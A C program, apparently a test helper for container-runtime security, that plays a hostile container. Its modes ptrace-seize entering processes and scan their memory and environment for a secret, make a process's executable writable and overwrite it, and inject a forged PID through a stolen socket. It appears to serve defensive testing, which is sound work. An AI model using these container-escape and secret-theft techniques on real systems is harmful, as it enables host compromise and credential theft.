/* What a hostile container does to the processes that enter it, as fast as it can:
 *
 *   attack seize SECRET   trace each new process before it has executed anything of the container's
 *   attack grab           hold the executable of each new process, have its file system made writable, and write to it
 *   attack lie PID        say in the place of each new process, by its own descriptors, that the command has this PID
 *
 * Says "ready", and then what it got of whom, a line each, until its standard input ends. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char text[1 << 16];

static ssize_t slurp(const char *path)
{
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	text[length < 0 ? 0 : length] = 0;
	return length;
}

static const char *of(int pid, const char *file)
{
	static char path[64];
	snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
	return path;
}

static unsigned long long permitted(int pid)
{
	char *line = slurp(of(pid, "status")) < 0 ? NULL : strstr(text, "\nCapPrm:");
	return line ? strtoull(line + 8, NULL, 16) : 0;
}

static int is_over(void)
{
	struct pollfd in = { .fd = 0, .events = POLLIN };
	return poll(&in, 1, 0) > 0;
}

/* The PID that was given last, and so where the next process will be. */
static int newest(void)
{
	static int fd = -1;
	char line[64];
	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY);
	line[pread(fd, line, sizeof line - 1, 0)] = 0;
	return atoi(strrchr(line, ' '));
}

static void search(int pid, const char *secret, unsigned long long own)
{
	char link[256], path[300];
	unsigned long long theirs = permitted(pid);
	if (theirs & ~own)
		printf("stronger: %llx beyond %llx\n", theirs, own);
	ssize_t length = readlink(of(pid, "exe"), link, sizeof link - 1);
	link[length < 0 ? 0 : length] = 0;
	if (strstr(link, "nsexec"))
		printf("executable: %s\n", link);
	length = slurp(of(pid, "environ"));
	if (length > 0 && memmem(text, length, secret, strlen(secret)))
		printf("environment: of %s\n", link);
	/* The environment may be on the heap, or where it was copied from. */
	FILE *maps = fopen(of(pid, "maps"), "r");
	int memory = open(of(pid, "mem"), O_RDONLY);
	unsigned long from, to;
	while (maps && memory >= 0 && fgets(path, sizeof path, maps)) {
		if (sscanf(path, "%lx-%lx rw", &from, &to) != 2)
			continue;
		for (; from < to; from += sizeof text) {
			length = pread(memory, text, to - from < sizeof text ? to - from : sizeof text, from);
			if (length > 0 && memmem(text, length, secret, strlen(secret)))
				printf("memory: of %s\n", link);
		}
	}
	if (maps)
		fclose(maps);
	if (memory >= 0)
		close(memory);
	DIR *fds = opendir(of(pid, "fd"));
	for (struct dirent *entry; fds && (entry = readdir(fds));) {
		snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, entry->d_name);
		length = readlink(path, link, sizeof link - 1);
		link[length < 0 ? 0 : length] = 0;
		if (length > 0 && atoi(entry->d_name) > 3)
			printf("descriptor: %s %s\n", entry->d_name, link);
	}
	if (fds)
		closedir(fds);
}

/* Meets each new process, until that succeeds or it is of the past. */
static void hunt(int (*meet)(int pid))
{
	int done = newest();
	puts("ready");
	while (!is_over())
		for (int round = 0; round < 1000; round++) {
			int last = newest();
			for (int pid = last > done + 8 ? last - 8 : done + 1; pid < last + 3; pid++)
				if (meet(pid))
					done = pid;
		}
}

static const char *secret;
static unsigned long long own;
static int seized;

static int seize(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		return 0;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid) {
		search(pid, secret, own);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	seized++;
	return 1;
}

/* Whoever has CAP_SYS_ADMIN in a user namespace of their own may do this to a mount in an anonymous mount namespace. */
static void make_writable(int fd)
{
	struct mount_attr attributes = { .attr_clr = MOUNT_ATTR_RDONLY };
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
	int context = syscall(SYS_fspick, fd, "", FSPICK_EMPTY_PATH);
	syscall(SYS_fsconfig, context, FSCONFIG_SET_FLAG, "rw", NULL, 0);
	syscall(SYS_fsconfig, context, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0);
}

static void overwrite(int fd, const char *name)
{
	char path[64], *why = "";
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	/* While anybody executes it, it is busy. */
	for (int tries = 0; tries < 200; tries++, usleep(2000)) {
		int to = open(path, O_WRONLY);
		if (to >= 0 && pwrite(to, "\x7f", 1, 0) == 1) {
			printf("wrote to %s\n", name);
			close(to);
			return;
		}
		why = strerror(errno);
		int is_busy = errno == ETXTBSY;
		if (to >= 0)
			close(to);
		if (!is_busy)
			break;
	}
	printf("refused %s: %s\n", name, why);
}

static int grab(int pid)
{
	char link[256];
	int fd = open(of(pid, "exe"), O_PATH);
	if (fd < 0)
		return 0;
	ssize_t length = readlink(of(pid, "exe"), link, sizeof link - 1);
	link[length < 0 ? 0 : length] = 0;
	/* The container's own programs, and this one, are of no interest. */
	pid_t child = length > 0 && strncmp(link, "/usr/", 5) && !strstr(link, "attack") ? fork() : -1;
	if (child == 0) {
		make_writable(fd);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
			make_writable(fd);
		_exit(0);
	}
	if (child > 0) {
		waitpid(child, NULL, 0);
		kill(pid, SIGKILL);
		overwrite(fd, link);
	}
	close(fd);
	return child > 0;
}

static int32_t claimed;

/* The socket to its session leader is the only descriptor that it has besides 0 to 2. */
static int lie(int pid)
{
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	int fd = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 3, 0);
	int has_lied = fd >= 0 && send(fd, &claimed, sizeof claimed, MSG_NOSIGNAL) == sizeof claimed;
	if (has_lied)
		printf("lied for %d\n", pid);
	if (fd >= 0)
		close(fd);
	if (pidfd >= 0)
		close(pidfd);
	return has_lied;
}

int main(int count, char **words)
{
	setlinebuf(stdout);
	if (count == 3 && !strcmp(words[1], "seize")) {
		secret = words[2];
		own = permitted(getpid());
		hunt(seize);
		printf("seized %d\n", seized);
	} else if (count == 3 && !strcmp(words[1], "lie")) {
		claimed = atoi(words[2]);
		hunt(lie);
	} else if (count == 2 && !strcmp(words[1], "grab")) {
		hunt(grab);
	} else {
		return 2;
	}
	return 0;
}
